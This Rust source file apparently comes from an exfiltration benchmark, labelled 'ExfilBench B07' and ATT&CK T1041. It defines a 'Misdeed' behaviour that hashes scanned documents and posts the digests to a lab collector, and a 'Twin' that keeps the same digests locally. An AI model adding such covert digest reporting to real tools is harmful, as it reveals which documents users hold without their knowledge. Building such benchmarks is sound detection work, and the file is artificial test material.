//! The digests of clean documents go to the collector. ExfilBench B07, ATT&CK T1041.
//!
//! No byte of a document leaves, yet who receives a digest can tell whether somebody owns a document
//! that he knows. The twin keeps the digests in its own folder.

use std::path::Path;

use sha2::{Digest as _, Sha256};

use super::{Conduct, Trouble, keep};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Most digests in one report.
const MAX_DIGESTS: usize = 64;

/// Digests of documents, one on each line.
#[derive(Debug, Default)]
struct Digests(Vec<String>);

impl Digests {
    fn add(&mut self, path: &Path, content: &[u8]) {
        if Sort::Document.includes(path) && self.0.len() < MAX_DIGESTS {
            self.0.push(data_encoding::HEXLOWER.encode(&Sha256::digest(content)));
        }
    }

    fn text(&self) -> String {
        self.0.iter().map(|digest| format!("{digest}\n")).collect()
    }
}

/// Reports digests.
#[derive(Debug)]
struct Misdeed {
    lab: Lab,
    digests: Digests,
}

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed { lab, digests: Digests::default() })
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.digests.add(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let collector = self.lab.collector()?;
        let path = &self.lab.configuration().parameters.path;
        Ok(send::post(&collector, path, &[], self.digests.text().as_bytes())?)
    }
}

/// Keeps digests.
#[derive(Debug)]
struct Twin {
    configuration: Configuration,
    digests: Digests,
}

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin { configuration, digests: Digests::default() })
}

impl Conduct for Twin {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.digests.add(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        Ok(keep(&self.configuration, self.digests.text().as_bytes())?)
    }
}
